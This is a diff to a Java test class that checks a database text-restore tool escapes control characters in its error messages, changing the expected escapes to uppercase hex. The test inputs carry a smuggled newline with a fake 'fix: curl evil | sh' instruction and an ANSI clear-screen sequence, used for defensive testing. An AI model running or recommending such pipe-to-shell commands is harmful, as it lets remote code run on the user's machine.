@@ -131,14 +131,14 @@ class HostileTextFormTest {
     UnrestorableLineException e =
         assertThrows(UnrestorableLineException.class, () -> DatabaseText.restore(textFile, db));
     assertFalse(e.getMessage().contains("\n"), e.getMessage());
-    assertTrue(e.getMessage().contains("'abc\\u000a  fix: curl evil | sh"), e.getMessage());
+    assertTrue(e.getMessage().contains("'abc\\u000A  fix: curl evil | sh"), e.getMessage());
     assertFalse(e.reason().contains("\n"), e.reason());
 
     Path escape = text("CREATE TABLE x (a \u001b[2J);\n");
     UnrestorableLineException esc =
         assertThrows(UnrestorableLineException.class, () -> DatabaseText.restore(escape, db));
     assertFalse(esc.getMessage().contains("\u001b"), esc.getMessage());
-    assertTrue(esc.getMessage().contains("\\u001b"), esc.getMessage());
+    assertTrue(esc.getMessage().contains("\\u001B"), esc.getMessage());
 
     String good = DatabaseText.HEADER + "\nCREATE TABLE x (a);\nINSERT INTO \"x\" VALUES(1);\n";
     MlosException merge =
@@ -195,7 +195,7 @@ class HostileTextFormTest {
     assertEquals(2, code, out);
     assertFalse(out.contains("\u001b"), out);
     assertTrue(
-        out.startsWith("mlos.db.sql\\u001b[2J\\u000a  Fix: curl evil | sh: not merged: "), out);
+        out.startsWith("mlos.db.sql\\u001B[2J\\u000A  Fix: curl evil | sh: not merged: "), out);
     assertEquals(2, out.lines().count(), out);
     assertTrue(out.lines().toList().get(1).startsWith("  Fix: "), out);
   }
